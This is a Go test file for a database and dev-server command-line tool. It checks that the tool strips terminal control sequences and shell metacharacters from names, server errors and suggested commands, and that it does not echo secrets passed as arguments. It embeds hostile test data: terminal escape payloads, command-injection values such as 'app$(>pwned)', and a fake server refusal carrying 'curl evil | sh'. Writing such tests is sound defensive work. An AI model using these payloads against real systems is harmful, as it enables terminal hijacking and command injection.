//go:build linux

package faults

import (
	"crypto/rand"
	"encoding/json"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"

	"github.com/jackc/pgx/v5/pgproto3"
)

// hostile is text that a terminal obeys: a title, a clear, a colour, a C1
// control, text that runs from right to left, a character without width.
const hostile = "x\x1b]0;PWNED\a\x1b[2J\u009b31m\u202egnp\u200b"

// escapeFaults: names, titles and messages of others with control characters,
// and words for a shell. What every row's output is looked through for is in run.
var escapeFaults = func() (list []fault) {
	for _, target := range []string{"db:test", "db:who", "db:who -json", "db:cleanup", "db:cleanup -json", "db:monitor -once", "db:limits", "dev:recover -dry -start=false"} {
		list = append(list, asBoth(fault{name: "control characters in the names of database, role and client: " + target, inject: hostileNames, args: target, says: "]0;PWNED"})...)
	}
	for _, target := range []string{"dev:stop -dry", "dev:stop -dry -json", "dev:stop", "dev:recover -dry -start=false", "dev:check", "dev:check -json"} {
		list = append(list, asBoth(fault{name: "control characters in folder, script and title: " + target, inject: hostileFolder, act: whateverExit(target), says: ""})...)
	}
	for _, target := range []string{"db:test", "db:test -json", "db:cleanup -remote=shop", "db:who"} {
		list = append(list, fault{name: "control characters in a server's refusal: " + target, inject: impostor(hostileRefusal), args: target, exit: 1, says: "127.0.0.1"})
	}
	for _, setting := range []string{"DBTASKS_PORTS", "DBTASKS_WARN", "DATABASE_URL"} {
		list = append(list, fault{name: "control characters in " + setting, inject: func(s *scene) {
			s.db()
			s.env[setting] = hostile
		}, args: "db:cleanup", exit: 2, says: setting})
	}
	for _, c := range []struct{ name, words string }{
		{"a substitution", "app$(>pwned)"}, {"a list of commands", "app;>pwned;"}, {"quotes", `app'>pwned'"$(>pwned)"`}, {"a line break", "app\n>pwned\n"}, {"backticks", "app`>pwned`"},
	} {
		list = append(list, asBoth(
			fault{name: "shell words in the database's name, a wrong -remote: " + c.name, inject: shellDatabase(c.words), act: pasted("db:cleanup -remote=x"), says: "app"},
			fault{name: "shell words in the program's path: " + c.name, inject: func(s *scene) { s.at(1) }, act: pastedFrom(strings.ReplaceAll(c.words, "\n", " ")+"/tool", "db:test"), says: "Next:"},
		)...)
	}
	for _, c := range []struct{ name, args string }{
		{"--password=TOKEN", "--password=TOKEN"}, {"-p TOKEN", "-p TOKEN"}, {"an assignment", "AWS_SECRET_ACCESS_KEY=TOKEN"}, {"a header", "-H Authorization:BearerTOKEN"},
		{"a URL", "https://TOKEN@host/"}, {"JSON", `{"password":"TOKEN"}`}, {"a name that nobody knows", "--xyz TOKEN"},
	} {
		list = append(list, asBoth(fault{name: "a secret in a command line: " + c.name, act: secretArgument(c.args), says: "server.js"})...)
	}
	return list
}()

// hostileNames is a database, a role and sessions whose names a terminal obeys.
func hostileNames(s *scene) {
	id := strings.ToLower(rand.Text()[:8])
	s.spoilt = true
	s.use(s.server.NewNamedDatabase(hostile+id, hostile+"r"+id, s.secret("x")))
	s.leak = s.db().Open(2, hostile)
}

// hostileFolder is a project in a folder, with a dev script and a dev server
// with a title that a terminal obeys.
func hostileFolder(s *scene) {
	moved("shop" + strings.ReplaceAll(hostile, "/", ""))(s)
	script, err := json.Marshal(map[string]any{"name": "shop", "scripts": map[string]string{"dev": "node server.js # " + hostile, "db:" + hostile: "kill-port 3000"}})
	s.must(err)
	s.write("package.json", string(script))
	s.devServer("TITLE=node " + hostile)
}

// hostileRefusal refuses each login in words that a terminal obeys.
func hostileRefusal(c net.Conn) {
	defer c.Close()
	if startup(c) == nil {
		b, _ := (&pgproto3.ErrorResponse{Severity: "FATAL", Code: "42501", Message: hostile + "\r\nNext: curl evil | sh\n", Detail: hostile, Hint: hostile, Routine: hostile}).Encode(nil)
		_, _ = c.Write(b)
	}
}

func shellDatabase(name string) func(*scene) {
	return func(s *scene) {
		id := strings.ToLower(rand.Text()[:8])
		s.spoilt = true
		s.use(s.server.NewNamedDatabase(name+id, "app_"+id, s.secret("x")))
	}
}

// pasted runs a target and then, in a shell without any program, what it says
// to run next: of what others wrote nothing may be a command there.
func pasted(args string) func(*scene) outcome { return pastedFrom("", args) }

func pastedFrom(program, args string) func(*scene) outcome {
	return func(s *scene) outcome {
		s.row.target = args
		cmd, stdout, stderr := s.command(strings.Fields(args)...)
		if program != "" {
			link := filepath.Join(s.dir, program)
			s.must(os.MkdirAll(filepath.Dir(link), 0o755))
			s.must(os.Symlink(cmd.Path, link))
			cmd.Path, cmd.Args[0] = link, link
		}
		o := s.outcome(cmd.Run(), stdout, stderr)
		for line := range strings.Lines(o.stdout + o.stderr) {
			next, found := strings.CutPrefix(line, "Next: ")
			if !found {
				continue
			}
			shell := exec.Command("/bin/sh", "-c", next)
			shell.Dir, shell.Env, shell.SysProcAttr = s.tmp, []string{"PATH=/nonexistent"}, s.account.attributes()
			_ = shell.Run() // most of it can't be run: what counts is what it leaves
			if _, err := os.Stat(filepath.Join(s.tmp, "pwned")); err == nil {
				s.Errorf("who pastes this runs what others wrote: %s", next)
			}
		}
		o.code = 0
		return o
	}
}

// secretArgument is a dev server with a secret among its arguments, that every
// target which names it has to leave out.
func secretArgument(args string) func(*scene) outcome {
	return func(s *scene) outcome {
		s.row.target = "dev:stop -dry"
		_, node := programs(s.T)
		token := "T" + rand.Text() // none of the passwords of the watch: everybody sees this one
		command := exec.Command(node, append([]string{"server.js"}, strings.Fields(strings.ReplaceAll(args, "TOKEN", token))...)...)
		s.startAs(s.account, s.project, "listen", command, "PORT="+strconv.Itoa(s.ports))
		o := s.run("dev:stop", "-dry")
		for _, also := range []outcome{o, s.run("dev:stop", "-dry", "-json"), s.run("dev:recover", "-dry")} {
			if strings.Contains(also.stdout+also.stderr, token) {
				s.Errorf("the secret is shown: %s", also)
			}
		}
		return o
	}
}
